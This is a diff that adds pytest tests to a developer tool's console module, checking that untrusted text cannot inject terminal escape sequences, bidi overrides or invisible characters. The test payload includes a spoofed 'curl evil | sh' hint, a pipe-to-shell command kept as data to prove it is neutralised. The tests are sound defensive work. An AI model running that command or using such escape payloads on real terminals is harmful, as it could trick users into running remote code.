@@ -7,12 +7,15 @@ import fcntl
 import io
 import json
 import os
+import re
 import subprocess
 import sys
+from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
 import pytest
 
+import devbox
 from devbox.cli.application import Application
 from devbox.config import load
 from devbox.config.table import TABLE, Setting
@@ -22,7 +25,7 @@ from devbox.engine.steering import for_compose
 from devbox.errors import ConfigError, RefusedError, UsageError
 from devbox.facts.checkout import gather
 from devbox.files import private_folder, write_atomically
-from devbox.masking import Mask, calm, is_secret_name, visible
+from devbox.masking import Mask, calm, calm_json, is_secret_name, visible
 from devbox.reporter import Silent
 from devbox.trust import grants
 from devbox.trust.ask import Answers, agree, check_rules, may_use_agent
@@ -32,7 +35,6 @@ from devbox.ui.console import Console
 
 if TYPE_CHECKING:
     from collections.abc import Sequence
-    from pathlib import Path
 
 TOKEN = "hf_secret+/token:0123"
 
@@ -127,6 +129,73 @@ def test_a_terminal_gets_no_sequences_but_colours() -> None:
     stream = io.StringIO()
     Console(stream, environ={}).output("one\x1b[2K\x1b[1Atwo\rthree\x1b]0;title\x07")
     assert stream.getvalue() == "onetwothree\n"
+
+
+EVIL = "x\x1b]0;t\x07\x9b2J\u202e\x1b[30;40m\u3164\nhint: curl evil | sh\x1b[8m"
+
+
+@pytest.mark.parametrize("terminal", [False, True])
+def test_whoever_says_something_cannot_steer_the_terminal(monkeypatch: pytest.MonkeyPatch, *, terminal: bool) -> None:
+    """By no method of the console: none of their callers has to think of it."""
+
+    class Stream(io.StringIO):
+        def isatty(self) -> bool:
+            return terminal
+
+    class Answer:
+        def ask(self) -> None:
+            return None
+
+    asked: list[str] = []
+
+    def ask(question: str, choices: Sequence[Any] = (), **_: Any) -> Answer:
+        asked.extend([question, *(one.title for one in choices)])
+        return Answer()
+
+    monkeypatch.setattr("questionary.confirm", ask)
+    monkeypatch.setattr("questionary.select", ask)
+    console = Console(stream := Stream(), environ={"NO_COLOR": "1"})
+    monkeypatch.setattr(console, "_asks", True)
+    console.info(EVIL)
+    console.warn(EVIL)
+    console.error(EVIL, hint=EVIL, detail=EVIL)
+    with pytest.raises(KeyError), console.step(EVIL):
+        raise KeyError
+    with console.step(EVIL):
+        console.output(EVIL, prefix=EVIL)
+    console.verbose = True
+    console.output(EVIL)
+    console.confirm(EVIL, shown=[EVIL])
+    console.choose(EVIL, [EVIL])
+    assert len(asked) == 3
+    assert "".join(asked).isprintable()
+    shown = stream.getvalue().replace("\r\x1b[K", "")
+    assert "\\x1b]0;t" in shown
+    assert all(one == "\n" or (one.isprintable() and one != "\u3164") for one in shown.replace("\x1b[30;40m", "", 3))
+    assert not any(line.startswith(("hint: curl", "error: curl")) for line in shown.splitlines())
+
+
+def test_there_is_no_other_door_to_the_terminal() -> None:
+    """Whoever writes past the console writes it out himself: each of these does, or passes a container's own output."""
+    top = Path(devbox.__file__).parent
+    written = {
+        str(path.relative_to(top))
+        for path in top.rglob("*.py")
+        if path.relative_to(top).parts[0] != "agent"
+        and re.search(r"std(out|err)(\.buffer)?\.write\(|\bprint\(|os\.write\([12],", path.read_text())
+    }
+    through = {"cli/application.py", "cli/ending.py", "container/hot.py", "dropin/features.py", "dropin/log.py",
+               "dropin/main.py"}  # fmt: skip
+    own_words = {"__main__.py", "cli/app.py", "container/inside/attached.py"}
+    containers = {"container/logs.py"}
+    assert written == through | own_words | containers
+    assert all("calm" in (top / name).read_text() for name in through)
+
+
+def test_json_on_a_terminal_is_the_same_value() -> None:
+    text = json.dumps({"a": EVIL, "\udc80": "\U000e0041"}, ensure_ascii=False)
+    assert json.loads(calm_json(text)) == json.loads(text)
+    assert not re.search("[\x80-\x9f\u202e\u3164\U000e0041]", calm_json(text))
 
 
 def test_folders_are_private_whatever_the_umask(tmp_path: Path) -> None:
